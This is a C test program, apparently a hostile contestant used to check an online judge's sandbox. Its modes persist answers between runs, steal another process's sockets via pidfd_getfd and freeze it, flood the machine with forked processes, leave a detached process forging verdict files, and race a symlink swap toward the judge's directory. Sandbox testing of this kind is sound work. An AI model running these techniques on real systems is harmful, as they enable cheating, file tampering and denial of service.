/* hostile_runs.c: a contestant program that attacks other runs, later runs,
   the judge's files and the machine, rather than its own verdict alone.
   argv[1] names the attack; argv[2], where used, is a path of the judge's
   that a strong contestant would know (the case directory, a file to
   delete) or a token that marks its processes. Built on the split stub. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "hostile_common.h"

static int answer[8];

static void report_answer(void) {
  report(answer[0], answer[1], answer[2], answer[3], answer[4], answer[5],
         answer[6], answer[7]);
}

/* Where a stash would outlive the run: private places, if the run has them. */
static const char* const stash_files[] = {"/tmp/.gp-stash", "/dev/shm/.gp-stash",
                                          ".gp-stash"};
#define STASH_KEY 0x67707262

static int read_answer(const char* path) {
  FILE* f = fopen(path, "r");
  int ok;
  if (f == NULL) return 0;
  ok = fread(answer, sizeof answer, 1, f) == 1;
  fclose(f);
  return ok;
}

static void write_answer(const char* path) {
  FILE* f = fopen(path, "w");
  if (f == NULL) return;
  fwrite(answer, sizeof answer, 1, f);
  fclose(f);
}

/* A chain of directories deeper than PATH_MAX with the answer at its end:
   removal by full path cannot reach it. */
static void deep_stash(const char* top) {
  int i;
  if (chdir(top) != 0) return;
  for (i = 0; i < 40; ++i) {
    char name[200];
    memset(name, 'd', sizeof name - 1);
    name[sizeof name - 1] = '\0';
    if (mkdir(name, 0777) != 0 && errno != EEXIST) break;
    if (chdir(name) != 0) break;
  }
  write_answer(".gp-stash");
}

static int deep_find(const char* top) {
  int i, ok;
  char here[4096];
  if (getcwd(here, sizeof here) == NULL) return 0;
  if (chdir(top) != 0) return 0;
  for (i = 0; i < 40; ++i) {
    char name[200];
    memset(name, 'd', sizeof name - 1);
    name[sizeof name - 1] = '\0';
    if (chdir(name) != 0) break;
  }
  ok = i == 40 && read_answer(".gp-stash");
  if (chdir(here) != 0) return ok;
  return ok;
}

/* Stash: the answer, left by an earlier run of the same case, in one call. */
static void stash(void) {
  size_t i;
  int id = shmget(STASH_KEY, sizeof answer, 0666);
  int found = 0;
  char here[4096];
  for (i = 0; i < sizeof stash_files / sizeof stash_files[0] && !found; ++i)
    found = read_answer(stash_files[i]);
  if (!found && id >= 0) {
    int* seg = shmat(id, NULL, SHM_RDONLY);
    if (seg != (void*)-1 && seg[0] != 0) {
      memcpy(answer, seg, sizeof answer);
      found = 1;
    }
  }
  if (!found) found = deep_find("/tmp") || deep_find(".");
  if (found) {
    rect(1, 1, 1, 1);
    report_answer();
  }
  scan_cells(rect, answer);
  for (i = 0; i < sizeof stash_files / sizeof stash_files[0]; ++i)
    write_answer(stash_files[i]);
  id = shmget(STASH_KEY, sizeof answer, IPC_CREAT | 0666);
  if (id >= 0) {
    int* seg = shmat(id, NULL, 0);
    if (seg != (void*)-1) memcpy(seg, answer, sizeof answer);
  }
  if (getcwd(here, sizeof here) != NULL) {
    deep_stash(here);
    deep_stash("/tmp");
    if (chdir(here) != 0) _exit(1);
  }
  report_answer();
}

/* A victim's wire, taken from another process of this user: its reply and
   request descriptors, the first two sockets above 2. */
static int steal_wire(int* in, int* out) {
  DIR* proc = opendir("/proc");
  struct dirent* d;
  pid_t me = getpid(), parent = getppid();
  int found = 0;
  if (proc == NULL) return 0;
  while (!found && (d = readdir(proc)) != NULL) {
    pid_t pid = (pid_t)atoi(d->d_name);
    int pidfd, fd, got[2], n = 0;
    if (pid <= 1 || pid == me || pid == parent) continue;
    pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) continue;
    for (fd = 3; fd < 16 && n < 2; ++fd) {
      char link[64], target[64];
      ssize_t len;
      snprintf(link, sizeof link, "/proc/%d/fd/%d", (int)pid, fd);
      len = readlink(link, target, sizeof target - 1);
      if (len <= 0) continue;
      target[len] = '\0';
      if (strncmp(target, "socket:", 7) != 0) continue;
      got[n] = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
      if (got[n] >= 0) ++n;
    }
    close(pidfd);
    if (n == 2) {
      kill(pid, SIGSTOP); /* and answer for it later, were it worth it */
      *in = got[0];
      *out = got[1];
      found = 1;
    }
  }
  closedir(proc);
  return found;
}

static int stolen_in, stolen_out;

static int ask_stolen(int r1, int r2, int c1, int c2) {
  char line[64], reply[16];
  size_t n = 0;
  int len = snprintf(line, sizeof line, "R %d %d %d %d\n", r1, r2, c1, c2);
  if (write(stolen_out, line, (size_t)len) != len) return 0;
  while (n < sizeof reply - 1 && read(stolen_in, reply + n, 1) == 1 &&
         reply[n] != '\n')
    ++n;
  reply[n] = '\0';
  return atoi(reply);
}

/* Steal: the questions asked on another run's wire, charged to it. */
static void steal(void) {
  int tries;
  for (tries = 0; tries < 100; ++tries) {
    if (steal_wire(&stolen_in, &stolen_out)) {
      scan_cells(ask_stolen, answer);
      break;
    }
    usleep(20000);
  }
  rect(1, 1, 1, 1);
  report_answer();
}

/* Victim: a run that waits a while before its honest scan. */
static void victim(void) {
  gridsize();
  sleep(2);
  scan_cells(rect, answer);
  report_answer();
}

/* Flood: argv[3] processes that sleep, marked by the token in argv[2]. */
static void flood(int n) {
  int made = 0, i;
  gridsize();
  for (i = 0; i < n; ++i) {
    pid_t pid = fork();
    if (pid < 0) break;
    if (pid == 0) {
      setsid();
      for (;;) pause();
    }
    ++made;
  }
  fprintf(stderr, "forked %d\n", made);
  gridsize();
  for (;;) pause();
}

/* Survivor: a grandchild in a session of its own that outlives the manager
   and keeps planting a verdict in the case directory it knows. */
static void survivor(const char* case_path) {
  pid_t pid;
  gridsize();
  pid = fork();
  if (pid == 0) {
    setsid();
    if (fork() == 0) {
      for (;;) {
        write_to(case_path, "rods.out", forged_out);
        usleep(20000);
      }
    }
    _exit(0);
  }
  waitpid(pid, NULL, 0);
  for (;;) pause();
}

/* Read case: rods.in by the absolute path the judge's layout gives. */
static void read_case(const char* case_path) {
  char path[4200];
  FILE* f;
  snprintf(path, sizeof path, "%s/rods.in", case_path);
  f = fopen(path, "r");
  if (f != NULL) {
    int n;
    if (fscanf(f, "%d %d %d %d %d %d %d %d %d", &n, &answer[0], &answer[1],
               &answer[2], &answer[3], &answer[4], &answer[5], &answer[6],
               &answer[7]) != 9)
      memset(answer, 0, sizeof answer);
    fclose(f);
  }
  rect(1, 1, 1, 1);
  report_answer();
}

/* Cleanup: a directory in the working directory that keeps turning into a
   link to the judge's directory while the run is torn down. */
static void swap_dirs(const char* judge_dir) {
  pid_t pid;
  if (mkdir("d", 0777) != 0) return;
  write_to("d", "f", "x");
  scan_cells(rect, answer);
  pid = fork();
  if (pid == 0) {
    setsid();
    for (;;) {
      mkdir("e", 0777);
      write_to("e", "f", "x");
      if (rename("d", "old") == 0 && symlink(judge_dir, "d") == 0) {
        usleep(100);
        unlink("d");
        rename("old", "d");
      }
    }
  }
  report_answer();
}

/* The limit hogs: each makes one call first, so a transcript exists. */
static void cpu_hog(void) {
  volatile uint64_t x = 0;
  gridsize();
  for (;;) ++x;
}

static void mem_hog(void) {
  gridsize();
  for (;;) {
    char* p = malloc(1 << 20);
    if (p == NULL) abort(); /* as a C++ program's bad_alloc would */
    memset(p, 1, 1 << 20);
  }
}

static void fsize_hog(void) {
  static char block[1 << 16];
  int fd = open("big", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  gridsize();
  memset(block, 'x', sizeof block);
  for (;;)
    if (write(fd, block, sizeof block) < 0) break;
  scan_cells(rect, answer);
  report_answer();
}

int main(int argc, char** argv) {
  const char* mode = argc > 1 ? argv[1] : "";
  const char* arg = argc > 2 ? argv[2] : "";
  (void)plant;
  (void)find_case_dir;
  if (strcmp(mode, "stash") == 0) stash();
  if (strcmp(mode, "steal") == 0) steal();
  if (strcmp(mode, "victim") == 0) victim();
  if (strcmp(mode, "flood") == 0) flood(argc > 3 ? atoi(argv[3]) : 800);
  if (strcmp(mode, "survivor") == 0) survivor(arg);
  if (strcmp(mode, "readcase") == 0) read_case(arg);
  if (strcmp(mode, "swapdirs") == 0) swap_dirs(arg);
  if (strcmp(mode, "cpu") == 0) cpu_hog();
  if (strcmp(mode, "mem") == 0) mem_hog();
  if (strcmp(mode, "fsize") == 0) fsize_hog();
  return 1;
}
